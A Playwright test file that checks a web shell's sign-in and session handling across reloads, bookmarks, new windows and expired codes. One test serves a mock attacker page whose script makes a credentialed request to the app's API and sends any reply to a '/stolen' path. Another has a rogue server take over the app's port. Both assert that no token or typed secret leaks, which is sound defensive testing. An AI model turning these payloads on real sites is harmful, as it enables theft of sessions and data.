import type { Page } from '@playwright/test';
import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { captureScreen, goTo, openNewWindow } from './app-page.ts';
import { expect, test } from './test.ts';
import { signIn as enter, startWebShell } from './web-shell.ts';

/** The sign-in of the web shell, as a person meets it: reload, bookmark, second window, back button, end of the session. */

const overview = (page: Page) => page.getByRole('heading', { level: 1, name: 'Overview' });
const signIn = (page: Page) => page.getByRole('textbox', { name: 'Code' });

test('the address shows no code, and a reload stays signed in', async ({ page }) => {
  expect(new URL(page.url()).hash).toBe('');
  await expect(overview(page)).toBeVisible();
  await goTo(page, 'Diagnose');
  await page.reload();
  await expect(page.getByRole('heading', { level: 1, name: 'Diagnose' })).toBeVisible();
  expect(await page.context().cookies()).toEqual([]);
  expect(await page.evaluate(() => ({ ...localStorage }))).toEqual({});
  expect(await page.evaluate(() => history.length)).toBeLessThanOrEqual(3);
});

test('the back button from another site, and the one inside the app, keep the session', async ({ page }) => {
  await goTo(page, 'Service & logs');
  await page.goto('about:blank');
  await page.goBack();
  await expect(page.getByRole('heading', { level: 1, name: 'Service & logs' })).toBeVisible();
  await page.goBack();
  await expect(overview(page)).toBeVisible();
});

test('a bookmark in another window asks for a code and keeps the screen that it names', async ({ page, browser }) => {
  const other = await (await browser.newContext({ viewport: { width: 1024, height: 700 } })).newPage();
  await other.goto(new URL('/#/diagnose', page.url()).href);
  await expect(signIn(other)).toBeFocused();
  await captureScreen(other, 'sign-in');
  await other.getByRole('button', { name: 'Sign in' }).click();
  await expect(other.getByText('Enter the code from the terminal.')).toBeVisible();
  await signIn(other).fill('AAAA-AAAA');
  await signIn(other).press('Enter');
  await expect(other.getByText('This code is wrong, was used before, or has expired.')).toBeVisible();
  expect(new URL(other.url()).hash).toBe('#/diagnose');
  await other.context().close();
});

test('a new window that is opened from the app signs in by itself', async ({ page }) => {
  const other = await openNewWindow(page);
  await expect(overview(other)).toBeVisible();
  expect(new URL(other.url()).hash).toBe('');
  await expect(overview(page)).toBeVisible();
  expect(await bearerOf(other)).not.toBe(await bearerOf(page));
});

function bearerOf(page: Page): Promise<string | null> {
  return page.evaluate(() => sessionStorage.getItem('ecm-bearer'));
}

test('an address with a used code asks for another one', async ({ page, browser, dataFolder }) => {
  await expect(overview(page)).toBeVisible();
  const shell = await startWebShell(dataFolder);
  const first = await (await browser.newContext()).newPage();
  await first.goto(shell.url);
  await expect(overview(first)).toBeVisible();
  const second = await (await browser.newContext()).newPage();
  await second.goto(shell.url);
  await expect(second.getByText('was used before or has expired')).toBeVisible();
  expect(new URL(second.url()).hash).toBe('');
  await Promise.all([first.context().close(), second.context().close()]);
  await shell.stop();
});

test('a session that has ended asks for a code', async ({ page }) => {
  await expect(overview(page)).toBeVisible();
  await page.evaluate(() => sessionStorage.setItem('ecm-bearer', 'A'.repeat(43)));
  await page.evaluate(() => (location.hash = '#/service'));
  await expect(page.getByText(/^Session expired/)).toBeVisible();
  await captureScreen(page, 'signed-out');
});

test('a page on another port of this computer receives nothing that it could use', async ({ page, browser }) => {
  await expect(overview(page)).toBeVisible();
  const received: string[] = [];
  const ours = new URL(page.url()).origin;
  const attacker = createServer((request, response) => {
    received.push(JSON.stringify([request.url, request.rawHeaders]));
    response.setHeader('content-type', 'text/html');
    response.end(
      `<img src="${ours}/icon.svg"><iframe src="${ours}/"></iframe><script src="${ours}/assets/x.js"></script><script>
      fetch('${ours}/api/call', { method: 'POST', credentials: 'include', body: '{"name":"app/info","input":{}}' }).then((r) => r.text()).then((t) => fetch('/stolen?' + encodeURIComponent(t)), () => fetch('/refused'));
      document.querySelector('iframe').addEventListener('load', (event) => { try { fetch('/frame?' + event.target.contentWindow.sessionStorage.length) } catch { fetch('/frame-refused') } });
      </script>`,
    );
  }).listen(0, '127.0.0.1');
  await once(attacker, 'listening');
  const bearer = (await bearerOf(page)) ?? '';
  expect(bearer).toHaveLength(43);
  const { port } = attacker.address() as AddressInfo;
  const visit = await page.context().newPage();
  for (const host of ['127.0.0.1', 'localhost', `x.${new URL(ours).hostname}`])
    await visit.goto(`http://${host}:${port}/`, { waitUntil: 'networkidle' });
  await expect.poll(() => received.filter((each) => each.includes('/refused')).length).toBe(3);
  const everything = received.join('\n');
  expect(everything).not.toContain(bearer);
  expect(everything).not.toContain('/stolen');
  expect(everything).not.toMatch(/"\/frame\?[^0]/);
  expect(everything.toLowerCase()).not.toContain('"cookie"');
  attacker.close();
  await visit.close();
  expect(browser.isConnected()).toBe(true);
});

test('a program that takes the port later gets neither the token nor what was typed', async ({
  browser,
  dataFolder,
}) => {
  const shell = await startWebShell(dataFolder);
  const page = await (await browser.newContext()).newPage();
  await enter(page, shell.url);
  await goTo(page, 'Plugin settings');
  const bearer = (await bearerOf(page)) ?? '';
  await page.getByRole('textbox', { name: 'API Password' }).fill('typed-and-not-saved');
  const { port } = new URL(shell.url);
  await shell.stop('SIGKILL');
  const received: string[] = [];
  const other = createServer((request, response) => {
    received.push(`${request.url} ${JSON.stringify(request.headers)}`);
    request.on('data', (part: Buffer) => received.push(part.toString()));
    response.end('{"ok":true,"value":{}}');
  }).listen(Number(port), '127.0.0.1');
  await once(other, 'listening');
  await expect(page.getByText(/^Session expired/)).toBeVisible({ timeout: 20_000 });
  expect(received.join('\n')).toContain('/api/prove');
  expect(received.join('\n')).not.toContain(bearer);
  expect(received.join('\n')).not.toContain('typed-and-not-saved');
  expect(await bearerOf(page)).toBeNull();
  other.closeAllConnections();
  other.close();
  await page.context().close();
});
